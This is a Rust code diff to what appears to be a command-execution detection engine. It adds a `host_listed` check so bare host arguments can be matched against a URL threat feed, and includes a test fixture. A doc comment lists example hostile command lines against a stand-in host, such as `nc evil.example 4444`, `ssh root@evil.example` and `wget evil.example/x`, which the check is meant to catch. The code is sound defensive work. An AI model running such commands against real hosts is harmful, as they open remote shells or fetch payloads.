@@ -77,6 +77,13 @@ pub trait ExecView {
     fn url_listed(&self, _url: &str) -> bool {
         false
     }
+
+    /// Whether `host` (an argument that is a host name or address alone, as written: `nc
+    /// evil.example 4444`, `ssh root@evil.example`, `wget evil.example/x`) is on a URL feed as
+    /// a host or under a domain, for `argv.url_listed`. Without a feed nothing is listed.
+    fn host_listed(&self, _host: &str) -> bool {
+        false
+    }
 }
 
 /// A view with the exec's pipe neighbours filled in by the caller (the engine looks them up
@@ -113,6 +120,9 @@ impl ExecView for WithPeers<'_> {
     }
     fn url_listed(&self, url: &str) -> bool {
         self.chain.url_listed(url)
+    }
+    fn host_listed(&self, host: &str) -> bool {
+        self.chain.host_listed(host)
     }
 }
 
@@ -270,8 +280,12 @@ impl ExecView for RuleTest {
     fn stdout_reader(&self, depth: usize) -> Option<&ExecEvent> {
         self.readers.get(depth).and_then(Option::as_ref)
     }
+    /// Exact entries: the test's feed matches a URL or host as written.
     fn url_listed(&self, url: &str) -> bool {
         self.listed_urls.iter().any(|u| u == url)
+    }
+    fn host_listed(&self, host: &str) -> bool {
+        self.listed_urls.iter().any(|u| u == host)
     }
 }
 
